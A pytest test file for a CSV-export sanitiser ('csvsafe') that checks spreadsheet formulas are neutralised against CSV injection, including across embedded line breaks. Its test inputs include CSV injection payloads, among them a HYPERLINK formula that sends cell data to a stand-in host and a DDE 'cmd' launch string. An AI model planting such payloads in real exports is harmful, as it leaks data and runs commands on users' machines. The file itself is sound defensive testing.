"""CSV formula neutralising (OWASP CSV injection) in every CSV planb writes."""

from __future__ import annotations

import csv
import io

import pytest

from planb import csvsafe


@pytest.mark.parametrize("cell", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
])
def test_cells_a_spreadsheet_would_evaluate_get_a_quote(cell: str) -> None:
    assert csvsafe.neutralise(cell) == "'" + cell.replace("\r", " ").replace("\n", " ")


@pytest.mark.parametrize("cell", ["Marie Martin", "06 12 34 56 78", "marie@metropole.lab",
                                  "Direction des finances", "", "1+1", "'already"])
def test_ordinary_cells_are_left_as_they_are(cell: str) -> None:
    assert csvsafe.neutralise(cell) == cell


def test_writer_neutralises_every_cell_and_stays_valid_csv() -> None:
    stream = io.StringIO()
    out = csvsafe.writer(stream, delimiter=";")
    out.writerow(["name", "mobile"])
    out.writerows([["=1+2", "+33 6 12 34 56 78"], ["Zoé; \"la\" chef", None]])
    rows = list(csv.reader(io.StringIO(stream.getvalue()), delimiter=";"))
    assert rows == [["name", "mobile"], ["'=1+2", "'+33 6 12 34 56 78"],
                    ["Zoé; \"la\" chef", ""]]
    assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for row in rows for cell in row)


@pytest.mark.parametrize("terminator", ["\r\n", "\n"])
@pytest.mark.parametrize("breaker", ["\r", "\n", "\r\n", "\u2028"])
def test_a_line_break_in_a_cell_never_starts_a_row_or_hides_a_formula(
        terminator: str, breaker: str) -> None:
    """``Agent<CR>=HYPERLINK(...)``: one cell on one line, never a new row starting with
    a formula nothing neutralised (csv quotes a bare CR only if it is in the terminator)."""
    stream = io.StringIO()
    out = csvsafe.writer(stream, delimiter=";", lineterminator=terminator)
    out.writerow(["Marie", f"Agent{breaker}=HYPERLINK(\"http://evil.example\")", "06"])
    out.writerow([f"{breaker}=1+1", "x", "y"])
    raw = stream.getvalue()
    assert "\r" not in raw.replace(terminator, "") and "\n" not in raw.replace(terminator, "")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
    assert rows == [["Marie", "Agent =HYPERLINK(\"http://evil.example\")", "06"],
                    ["' =1+1", "x", "y"]]
